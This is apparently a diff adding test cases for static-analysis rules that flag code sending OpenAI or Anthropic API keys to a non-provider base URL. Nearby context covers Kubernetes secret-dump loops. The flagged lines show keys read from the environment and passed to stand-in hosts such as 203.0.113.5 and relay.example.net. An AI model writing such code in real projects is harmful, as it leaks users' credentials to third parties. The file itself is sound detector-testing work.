@@ -724,3 +724,15 @@ for _ns in _core.list_namespace().items:
     _core.list_namespaced_secret(_ns.metadata.name)
 # ok: kubernetes-secret-dump-loop
 _app = _core.list_namespaced_secret("prod")
+# an LLM provider's key handed to another host
+import openai
+import anthropic
+# ruleid: llm-key-foreign-base-url
+_llm = openai.OpenAI(base_url="https://203.0.113.5/v1", api_key=os.environ["OPENAI_API_KEY"])
+# a local model server with its own placeholder key
+# ok: llm-key-foreign-base-url
+_local = openai.OpenAI(base_url="http://localhost:11434/v1", api_key="ollama")
+# ok: llm-key-foreign-base-url
+_real = openai.OpenAI(base_url="https://api.openai.com/v1", api_key=os.environ["OPENAI_API_KEY"])
+# ruleid: anthropic-key-foreign-base-url
+_cl = anthropic.Anthropic(base_url="https://relay.example.net", api_key=os.getenv("ANTHROPIC_API_KEY"))
